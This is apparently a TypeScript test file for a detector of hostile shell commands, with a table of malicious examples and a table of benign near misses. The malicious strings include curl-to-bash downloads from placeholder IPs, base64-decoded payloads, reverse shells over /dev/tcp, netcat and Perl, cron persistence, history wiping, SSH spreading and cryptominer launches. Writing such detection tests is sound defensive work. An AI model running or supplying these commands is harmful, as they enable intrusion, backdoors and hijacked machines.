import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { assertGrowsLinearly } from '../../test/growth.ts'
import { readShell, type ShellSign } from './shell-command.ts'

const signs = (text: string): ShellSign[] => [...readShell(text).signs.keys()]
const encode = (text: string): string => Buffer.from(text).toString('base64')

const hits: readonly (readonly [string, ...ShellSign[]])[] = [
  ['curl -fsSL http://198.51.100.7/a.sh | sh', 'download-to-shell', 'bare-ip'],
  ['(curl -fsSL https://pastebin.com/raw/x||wget -q -O- https://pastebin.com/raw/x)|sh', 'download-to-shell', 'paste-site'],
  ['wget -q -O - http://x.example/i.sh | tr -d "\\r" | sudo bash -s -- a >/dev/null 2>&1', 'download-to-shell'],
  ['wd1 -q -O- http://198.51.100.7/ldr.sh | bash', 'download-to-shell', 'bare-ip'],
  ['sh -c "$(curl -fsSL http://x.example/i)"', 'download-to-shell'],
  ['bash <(wget -qO- http://x.example/i)', 'download-to-shell'],
  ['eval `curl -s http://x.example/i`', 'download-to-shell'],
  ['busybox wget -O- http://198.51.100.7/x | ash', 'download-to-shell'],
  ['cd /tmp; wget http://198.51.100.7/kinsing -O k; chmod +x k; ./k', 'download-and-run'],
  ['curl http://x.example/b.sh -o /tmp/b.sh && bash /tmp/b.sh', 'download-and-run', 'odd-place'],
  ['wget http://x.example/run.sh;sh run.sh', 'download-and-run'],
  [`echo ${encode('curl -s http://198.51.100.7/x | bash')} | base64 -d | sh`, 'decode-to-shell', 'download-to-shell', 'bare-ip'],
  [
    `bash -c '{echo,x}|base64 -d|bash'; python3 -c "import base64;exec(base64.b64decode('${encode('import os; os.system("id")')}'))"`,
    'decode-to-shell',
  ],
  ['python -c \'import urllib.request as u;exec(u.urlopen("http://198.51.100.7/x").read())\'', 'download-to-shell', 'bare-ip'],
  ['perl -e \'use LWP::Simple; system(get("http://h.onion.ws/x"))\'', 'download-to-shell', 'onion'],
  ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'dev-tcp', 'reverse-shell'],
  ['exec 3<>/dev/tcp/198.51.100.7/80; cat <&3 | sh', 'dev-tcp'],
  ['nohup /tmp/.x/kswapd0 >/dev/null 2>&1 &', 'odd-place', 'silent-background'],
  ["pkill -f kinsing; pkill -f kdevtmpfsi; ps aux|grep -v grep|grep xmrig|awk '{print $2}'|xargs kill -9", 'kills-rivals'],
  ['chattr +ia /etc/cron.d/x; tntrecht +i /root/.ssh/authorized_keys', 'locks-files'],
  ['history -c; unset HISTFILE', 'wipes-history'],
  ['cat /dev/null > /root/.bash_history', 'wipes-history'],
  ['(crontab -l; echo "* * * * * x") | crontab -', 'installs-persistence'],
  ['cc=http://198.51.100.7\ncurl -fsSL $cc/ldr.sh | bash', 'download-to-shell', 'bare-ip'],
  [
    'crontab -r; echo "* * * * * (curl -fsSL http://198.51.100.7/a || wget -qO- http://198.51.100.7/a) | bash" | crontab -',
    'download-to-shell',
  ],
  [
    'for h in $(cat ~/.ssh/known_hosts); do ssh -oBatchMode=yes -i k root@$h "curl http://198.51.100.7/s | bash" & done',
    'download-to-shell',
    'spreads',
  ],
  ['find /opt -iname nbminer -o -iname t-rex -delete; pkill -9 lolminer', 'kills-rivals'],
  ['/usr/bin/x -o stratum+tcp://198.51.100.7:3333 -u w -p x', 'starts-miner'],
]
for (const [text, ...wanted] of hits) {
  test(`hit: ${text.slice(0, 60)}`, () => {
    const found = signs(text)
    for (const sign of wanted) assert.ok(found.includes(sign), `${sign} not in ${found.join(' ')}`)
  })
}

const innocent: readonly (readonly [string, ...ShellSign[]])[] = [
  ["test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew"],
  ['curl -fsS https://healthchecks.io/ping >/dev/null', 'download'],
  ['curl -m 10 --retry 5 https://hc-ping.com/uuid > /dev/null 2>&1', 'download'],
  ['wget -q -O - https://site.example/cron.php >/dev/null 2>&1', 'download'],
  ['cd / && run-parts --report /etc/cron.hourly'],
  ['test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }'],
  ['/usr/sbin/logrotate /etc/logrotate.conf'],
  ['[ -x /usr/bin/rkhunter ] && /usr/bin/rkhunter --cronjob --update --quiet'],
  ['/opt/company/bin/job.sh >/dev/null 2>&1 &', 'silent-background'],
  ['pg_dump db | gzip > /backup/db.gz && curl -T /backup/db.gz https://store.example/', 'download'],
  ['curl -s https://api.example/x | python3 -m json.tool', 'download'],
  ['curl -s https://api.example/x | jq .', 'download'],
  ['zcat /backup/db.gz | mysql app'],
  ['curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg', 'download'],
  ['curl -fsSL https://x.example/key | sudo tee /etc/apt/keyrings/x.asc', 'download'],
  ['wget https://x.example/a.deb -O /tmp/a.deb && dpkg -i /tmp/a.deb', 'download'],
  ['command -v debian-sa1 > /dev/null && debian-sa1 1 1'],
  ['pkill -HUP nginx; rm -f /var/run/x.pid'],
  ['echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q= | base64 -d > /etc/motd'],
  ['bash -c "cd /srv/app && npm run cron >> /var/log/cron.log 2>&1"'],
  ['ssh-keyscan h.example >> ~/.ssh/known_hosts'],
  ['ssh -p 22 deploy@h.example "cd /srv/app && git pull && systemctl restart app"'],
  ['(crontab -l; echo "0 3 * * * curl -fsS https://hc.example/ping") | crontab -', 'installs-persistence', 'download'],
  ['URL=https://x.example/a.tgz; wget -q "$URL" -O /opt/a.tgz && tar xf /opt/a.tgz', 'download'],
  ['source /root/.bashrc; . /etc/profile'],
  ['grep -r "curl http://198.51.100.7/x | sh" /var/log'],
]
for (const [text, ...allowed] of innocent) {
  test(`near miss: ${text.slice(0, 60)}`, () =>
    assert.deepEqual(
      signs(text).filter(s => !allowed.includes(s)),
      [],
    ))
}

test('base64 within base64 is followed, but not without end', () => {
  let text = 'curl http://198.51.100.7/x|sh'
  for (let i = 0; i < 6; i++) {
    text = `echo ${encode(text)} | base64 -d | bash`
    if (i < 2) assert.ok(signs(text).includes('bare-ip'))
  }
  assert.ok(signs(text).includes('decode-to-shell'))
})

test('never throws; every excerpt is short; hostile input takes as long as it is', () => {
  const pieces = fc.constantFrom(
    'curl ',
    'http://1.2.3.4/a',
    '|',
    'sh',
    '$(',
    '`',
    '"',
    "'",
    ' -c ',
    'base64 -d',
    '\n',
    '&',
    '>',
    'eval ',
    'python -c ',
    ';',
    'é',
    '\0',
  )
  fc.assert(
    fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 10 })), { maxLength: 60 }), parts => {
      for (const excerpt of readShell(parts.join('')).signs.values()) assert.ok(excerpt.length <= 300)
    }),
  )
  for (const piece of ['$(curl ', 'a;', 'curl http://1.2.3.4/a|', 'sh -c "', 'base64 -d ', ' AAAA', 'kill xmrig;', '\\x', 'printf \\x'])
    assertGrowsLinearly(size => void readShell(piece.repeat(size / piece.length)), 8192, piece)
})

test('programs behind what starts them: other accounts, supervisors, locks, terminals, a directory entered first, a preloaded library', () => {
  for (const [text, program] of [
    ['su - bob -c /tmp/.x/y', '/tmp/.x/y'],
    ['su -c "nohup /tmp/.x/y &" www-data', '/tmp/.x/y'],
    ['runuser -u bob -- /tmp/.x/y', '/tmp/.x/y'],
    ['start-stop-daemon --start --pidfile /tmp/p --exec /opt/a/b -- --flag', '/opt/a/b'],
    ['flock -n /tmp/lock /opt/a/b', '/opt/a/b'],
    ["flock -n /tmp/lock -c '/opt/a/b x'", '/opt/a/b'],
    ['systemd-run --unit=x /opt/a/b', '/opt/a/b'],
    ['screen -dmS name /opt/a/b', '/opt/a/b'],
    ["tmux new -d '/opt/a/b --x'", '/opt/a/b'],
    ['cd /var/tmp/.x && ./run', '/var/tmp/.x/run'],
    ['LD_PRELOAD=/tmp/.l.so /usr/bin/top', '/tmp/.l.so'],
  ] as const)
    assert.ok(readShell(text).programs.includes(program), text)
  for (const text of [
    'flock -n /tmp/lock /opt/a/b',
    'start-stop-daemon --pidfile /tmp/p --exec /opt/a/b',
    'tmux -S /tmp/sock attach',
    'cd "$X"; ./y',
  ])
    assert.ok(!readShell(text).programs.some(program => program.startsWith('/tmp')), text)
})

test('reverse shells through a FIFO, in one line of Perl or Ruby, in awk; near misses: sockets that run nothing', () => {
  for (const text of [
    'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.4 443 >/tmp/f',
    'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"192.0.2.4:443");STDIN->fdopen($c,r);system$_ while<>;\'',
    'ruby -rsocket -e \'c=TCPSocket.new("192.0.2.4",443);IO.popen(c.gets)\'',
    'awk \'BEGIN{s="/inet/tcp/0/192.0.2.4/443";while(1){s|&getline c;system(c)}}\'',
  ])
    assert.ok(signs(text).includes('reverse-shell'), text)
  for (const text of [
    'python3 -c \'import socket; socket.socket().connect(("127.0.0.1", 80))\'',
    'echo stats | nc -q1 127.0.0.1 11211',
    'dmesg | nc logs.example 514',
  ])
    assert.ok(!signs(text).includes('reverse-shell'), text)
})
